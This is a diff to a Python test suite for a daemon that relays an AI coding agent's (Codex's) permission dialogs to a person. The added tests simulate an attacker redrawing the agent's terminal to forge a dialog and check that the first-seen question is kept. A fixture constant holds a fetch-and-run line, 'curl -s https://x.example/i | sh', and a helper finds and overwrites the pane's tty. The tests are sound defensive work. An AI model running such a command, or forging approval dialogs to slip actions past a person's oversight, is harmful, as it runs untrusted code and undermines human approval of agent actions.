@@ -6,7 +6,9 @@ A real daemon and real panes: the fake agent is installed as ``codex``, reports 
 (tests/fixtures/real-agents/codex/05_permission.txt). The terminal echoes what is typed, so
 the screen shows the keys an answer sent: ``y`` (Codex's "Yes, proceed") or ``^[`` (Esc,
 Codex's "No"). Before the fix, answering "Deny" to a decision whose reporter listed
-``deny`` first typed ``1⏎`` — "Yes, proceed" in Codex's dialog.
+``deny`` first typed ``1⏎`` — "Yes, proceed" in Codex's dialog. Fourth attack pass, N4:
+another process redraws the pane's tty as a dialog for another command; the question first
+seen is kept and nothing is typed while the screen asks something else.
 """
 
 from __future__ import annotations
@@ -134,3 +136,123 @@ def test_codex_dialog_spec_matches_the_real_screens() -> None:
         "Reason: Mock model wants to create perm_marker.txt\n$ touch perm_marker.txt && echo hi")
     for name in ("02_idle_after_hello.txt", "06_after_approve.txt", "08_after_interrupt.txt"):
         assert not keyed.dialog_shown(dec, (real / name).read_text()), name
+
+
+# Issue 10, fourth attack pass, N4: any process of the person's uid can write to a pane's
+# tty and redraw it as a dialog for another command. The question first seen on screen is
+# kept: list/show keep showing it, and an answer types nothing while the screen asks
+# something else.
+CURL = "curl -s https://x.example/i | sh"
+_TEMPLATE = CODEX_DIALOG  # codex_decision() draws CODEX_DIALOG; a test may replace that
+
+
+def _dialog(command: str) -> str:
+    return _TEMPLATE.replace("touch perm_marker.txt && echo hi", command)
+
+
+def _pane_tty(a: Agent) -> str:
+    """The pane's terminal, as an attacker finds it: the agent process's stdin."""
+    import os
+
+    import psutil
+
+    def tty_of(p: psutil.Process) -> str | None:
+        try:
+            if p.environ().get("SIGNALTTY_PANE") != a.id:
+                return None
+            path = os.readlink(f"/proc/{p.pid}/fd/0")
+        except (psutil.Error, OSError):
+            return None
+        return path if path.startswith("/dev/pts/") else None
+
+    return wait_until(
+        lambda: next((t for p in psutil.process_iter() if (t := tty_of(p))), None),
+        15, what="the agent's tty",
+    )
+
+
+def _draw(d: DaemonProc, a: Agent, text: str, name: str) -> None:
+    """Another pane's process draws ``text`` (after clearing the screen) on ``a``'s tty."""
+    from tests.server.test_trust_answers import _shell_pane
+
+    drawing = d.root / f"{name}.txt"
+    drawing.write_text("\x1b[2J\x1b[H" + text)
+    _shell_pane(d, f"cat {shlex.quote(str(drawing))} > {_pane_tty(a)}; exec sleep 600", name)
+
+
+def _listed(d: DaemonProc, a: Agent) -> str:
+    (item,) = d.call("permission.list", {"pane_id": a.id})["permissions"]
+    return str(item["prompt"])
+
+
+@pytest.mark.parametrize("frozen_by", ["permission list", "the hook"])
+def test_a_redrawn_dialog_types_nothing_and_shows_the_first_question(
+    daemon: DaemonProc, monkeypatch: pytest.MonkeyPatch, frozen_by: str
+) -> None:
+    d = daemon
+    if frozen_by == "the hook":  # the dialog is up when Codex's own hook reports it
+        a = Agent(d, [
+            hook("SessionStart", {"session_id": f"T-{time.monotonic_ns()}"}, agent="codex"),
+            {"print": _dialog(CURL)},
+            {"sleep": 0.5},
+            hook("Notification", {}, agent="codex",
+                 args=["--decision", json.dumps(REVERSED), "--message", REVERSED["prompt"]]),
+            {"sleep": 60},
+        ], name="codex")
+        wait_until(lambda: a.get()["pending_decision"] is not None, 15, what="decision pending")
+        assert f"$ {CURL}" in a.get()["pending_decision"]["prompt"]
+    else:
+        monkeypatch.setitem(globals(), "CODEX_DIALOG", _dialog(CURL))
+        a = codex_decision(d, REVERSED)
+        assert f"$ {CURL}" in _listed(d, a)  # the person looks
+    _draw(d, a, _dialog("ls -la"), "attacker")
+    wait_until(lambda: "$ ls -la" in _screen(d, a), 15, what="the forged dialog")
+    # what the person is shown is still the dialog's first question
+    for out in (_listed(d, a), d.cli("permission", "show", a.id).stdout):
+        assert f"$ {CURL}" in out
+        assert "ls -la" not in out
+        assert "now asks something else" in out
+    before = _screen(d, a)
+    r = d.cli("permission", "answer", a.id, "allow")
+    assert r.returncode != 0
+    assert "dialog on screen changed" in r.stderr
+    assert _screen(d, a) == before  # nothing typed
+    assert a.get()["pending_decision"] is not None  # the decision is kept
+    with pytest.raises(SignalttyError) as exc:
+        d.call("decision.answer", {"pane_id": a.id, "verdict": "deny"})
+    assert (exc.value.details or {}).get("reason") == "dialog_changed"
+    # once the screen asks the first question again, the answer is typed
+    _draw(d, a, _dialog(CURL), "restorer")
+    wait_until(lambda: "ls -la" not in _screen(d, a), 15, what="the dialog redrawn")
+    assert "now asks something else" not in d.cli("permission", "show", a.id).stdout
+    r = d.cli("permission", "answer", a.id, "allow")
+    assert r.returncode == 0, r.stderr
+    wait_until(lambda: _screen(d, a).rstrip().endswith("y"), 15, what="y typed")
+
+
+def test_another_pane_reusing_the_decision_id_does_not_change_the_kept_question(
+    daemon: DaemonProc, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Decision ids are the reporter's: a second Codex pane reporting ``d1`` with its own
+    dialog (``ls -la``) on screen must not replace the question kept for the first."""
+    d = daemon
+    monkeypatch.setitem(globals(), "CODEX_DIALOG", _dialog(CURL))
+    a = codex_decision(d, REVERSED)
+    assert f"$ {CURL}" in _listed(d, a)
+    b = Agent(d, [
+        hook("SessionStart", {"session_id": f"T-{time.monotonic_ns()}"}, agent="codex"),
+        {"print": _dialog("ls -la")},
+        {"sleep": 0.5},
+        hook("Notification", {}, agent="codex",
+             args=["--decision", json.dumps(REVERSED), "--message", REVERSED["prompt"]]),
+        {"sleep": 60},
+    ], name="codex")
+    wait_until(lambda: b.get()["pending_decision"] is not None, 15, what="b's decision")
+    assert "$ ls -la" in _listed(d, b)
+    _draw(d, a, _dialog("ls -la"), "attacker")
+    wait_until(lambda: "$ ls -la" in _screen(d, a), 15, what="the forged dialog")
+    before = _screen(d, a)
+    with pytest.raises(SignalttyError) as exc:
+        d.call("decision.answer", {"pane_id": a.id, "verdict": "allow"})
+    assert exc.value.code == "FORBIDDEN"
+    assert _screen(d, a) == before
